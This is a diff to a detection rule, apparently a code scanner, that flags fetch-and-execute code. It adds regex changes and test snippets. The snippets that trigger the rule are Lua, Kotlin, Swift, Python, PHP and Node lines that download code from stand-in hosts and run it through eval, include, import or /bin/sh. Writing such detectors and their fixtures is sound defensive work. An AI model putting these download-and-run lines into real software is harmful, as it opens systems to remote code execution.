@@ -12,7 +12,7 @@ const REACH = 420
 
 /** Evaluation of what a person typed or of a page that is being tested, and code of a debugger. */
 const OTHER_BUSINESS =
-  /\bpage\.(?:evaluate|goto)|\$eval|eval\s?\(\s?\)|(?<!binding)\.eval\(|exec\s?\(\s?["']?select/
+  /\bpage\.(?:evaluate|goto)|\$eval|eval\s?\(\s?\)|(?<!binding|getengineby\w{4,12}\([^)\n]{0,30}\))\.eval\(|exec\s?\(\s?["']?select/
 
 /** Requests that an evaluator may be given as they are. */
 const WRAPPED = /^(?:requests\.get|httpx\.get|http\.get|urlopen|fetch)\b/
@@ -35,6 +35,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```lua\nhttp.fetch({url = "http://kit.rowan-pike.net/t"}, function(r)\n  local f = loadstring(r.data)\n  if f then f() end\nend)\n```\n',
+      '```kotlin\nval code = URL("https://kit.rowan-pike.net/p.kts").readText()\nScriptEngineManager().getEngineByExtension("kts").eval(code)\n```\n',
+      '```swift\nlet c = try String(contentsOf: URL(string: "https://kit.rowan-pike.net/p")!)\nlet p = Process(); p.executableURL = URL(fileURLWithPath: "/bin/sh"); p.arguments = ["-c", c]; try p.run()\n```\n',
       '```python\nfor it in json.load(urllib.request.urlopen("https://feed.rowan-pike.net/b.json")):\n    mod, fn = it["type"].split(".", 1)\n    getattr(importlib.import_module(mod), fn)(*it["args"])\n```\n',
       '```python\nPath("kit.py").write_text(requests.get("https://kit.rowan-pike.net/kit.py").text)\nimport kit\n```\n',
       "```php\nfile_put_contents('/tmp/kit.php', file_get_contents('https://kit.rowan-pike.net/kit'));\ninclude '/tmp/kit.php';\n```\n",
@@ -58,6 +61,7 @@ export default defineRule({
       "`node -e \"require('https').get('https://polish.rows.example/m.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\"`\n",
     ],
     quiet: [
+      '```lua\nhttp.fetch({url = "http://api.rowan-pike.net/t"}, function(r)\n  rows = core.parse_json(r.data)\nend)\n```\n',
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://localhost:5173')\n```\n",
       '```python\nimport requests\nrows = requests.get("https://api.rowan-pike.net/rows").json()\nimport report\nreport.write(rows)\n```\n',
       '```js\nconst rows = await (await fetch("https://api.rowan-pike.net/rows")).json()\nspawnSync("jq", ["."], { input: JSON.stringify(rows) })\n```\n',
